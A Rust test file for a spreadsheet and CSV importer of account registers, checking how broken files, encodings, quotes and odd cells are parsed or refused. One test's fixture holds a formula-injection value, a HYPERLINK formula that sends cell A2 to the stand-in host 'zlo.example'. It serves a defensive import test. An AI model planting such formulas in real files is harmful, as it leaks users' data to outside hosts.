//! Every file of `broken/` whose form is broken ends as the `.expected.json` beside it says: the same rows, columns, values and kinds, no more.
#![allow(clippy::unwrap_used, reason = "a test fails by panicking")]

mod given;

use domain::import::{Problem, Severity};
use given::{Whole, json, read_file};

type Defect = (Option<u64>, Option<String>, Option<String>, String);

fn wanted(name: &str) -> (serde_json::Value, Vec<Defect>) {
    let expected = json(&format!("broken/{name}.expected.json"));
    let text = |value: &serde_json::Value| value.as_str().map(str::to_owned);
    let defects = expected["defects"].as_array().unwrap().iter().map(|defect| {
        let kind = text(&defect["kind"]).unwrap();
        (defect["row"].as_u64(), text(&defect["column"]), text(&defect["value"]), kind)
    });
    let mut defects: Vec<_> = defects.collect();
    defects.sort();
    (expected, defects)
}

fn told(problems: impl IntoIterator<Item = Problem>) -> Vec<Defect> {
    let defect = |problem: Problem| (problem.row, problem.column, problem.value, problem.kind.code().to_owned());
    let mut defects: Vec<_> = problems.into_iter().map(defect).collect();
    defects.sort();
    defects
}

/// Reads a file that can be read and compares its defects.
fn read(file: &str) -> (serde_json::Value, Whole) {
    let (expected, defects) = wanted(file.split('.').next().unwrap());
    let whole = read_file(&format!("broken/{file}")).unwrap();
    assert_eq!(told(whole.problems()), defects);
    (expected, whole)
}

#[test]
fn whole_files_that_are_refused() {
    for file in ["obrezan.xlsx", "odna-stroka.csv", "pustoy.csv", "scheta-bez-kolonki.xlsx"] {
        let (_, defects) = wanted(file.split('.').next().unwrap());
        let problem = read_file(&format!("broken/{file}")).unwrap_err();
        assert_eq!(problem.severity(), Severity::Fatal);
        assert_eq!(told([problem]), defects, "{file}");
    }
}

#[test]
fn a_long_line_is_quoted_by_its_beginning() {
    let problem = read_file("broken/odna-stroka.csv").unwrap_err();
    let beginning = problem.other.unwrap();
    assert!(beginning.starts_with("Лицевой счёт;ФИО;Адрес;Сумма;") && beginning.chars().count() <= 80);
}

#[test]
fn a_false_dimension_costs_nothing() {
    let (expected, whole) = read("razmer-million.xlsx");
    assert_eq!(whole.summary.parsed, expected["rows_good"].as_u64().unwrap());
    assert_eq!(whole.summary.refused, expected["rows_bad"].as_u64().unwrap());
}

#[test]
fn quotes_astray_and_open() {
    let (expected, whole) = read("kavychki.csv");
    let good = |after: bool| whole.rows.iter().filter(|row| (row.row > 28) == after && row.row != 28).count() as u64;
    assert_eq!(good(false), expected["rows_before_unclosed"].as_u64().unwrap());
    assert_eq!(good(true), expected["rows_after_unclosed"].as_u64().unwrap());
    assert_eq!((whole.summary.parsed, whole.summary.refused), (39, 1));
    assert_eq!(whole.register()[6].address.as_deref(), Some("ТОО \"Арай\" офис 3"));
    assert_eq!(whole.rows[26].raw.len(), 4);
}

#[test]
fn an_encoding_that_changes_midway() {
    let (expected, whole) = read("smena-kodirovki.csv");
    assert_eq!(whole.summary.parsed, expected["rows_good"].as_u64().unwrap());
    assert_eq!(whole.summary.refused, expected["rows_bad"].as_u64().unwrap());
}

#[test]
fn a_label_that_lies() {
    let (expected, whole) = read("cp1251-pod-vidom-utf8.csv");
    assert_eq!(whole.summary.parsed, expected["rows_total"].as_u64().unwrap());
    assert_eq!(serde_json::json!(whole.rows[0].raw), expected["first_row_as_meant"]);
}

#[test]
fn cells_that_are_not_what_they_seem() {
    let (expected, whole) = read("scheta-yacheyki.xlsx");
    assert_eq!(whole.summary.rows, expected["rows_total"].as_u64().unwrap());
    // Wrong dates and merged cells are refused; formulas and dates as text go in.
    assert_eq!(whole.summary.refused, 5);
    let formula = whole.register().into_iter().find(|row| row.number.as_str() == "34466274").unwrap();
    assert_eq!(formula.holders, ["=HYPERLINK(\"http://zlo.example/?\"&A2;\"Иванов\")"]);
    let dated = whole.register().into_iter().find(|row| row.number.as_str() == "14270765").unwrap();
    assert_eq!(dated.opened_on, domain::Date::from_ymd_opt(2019, 5, 12));
}

#[test]
fn a_survey_shows_the_columns_of_a_file_that_lacks_one() {
    let file = std::fs::File::open(given::path("broken/scheta-bez-kolonki.xlsx")).unwrap();
    let survey = exchange::survey(file, "scheta.xlsx", &exchange::ReadOptions::default()).unwrap();
    let fields: Vec<_> =
        survey.columns.columns.iter().map(|column| column.field.map_or("", exchange::Field::code)).collect();
    assert_eq!(fields, ["holders", "address", "opened_on", "email", "residents"]);
    assert_eq!(survey.columns.columns[0].example.as_deref(), Some("Ахметова Гүлнәр Викторовна"));
    assert_eq!(survey.problems.len(), 1);
}
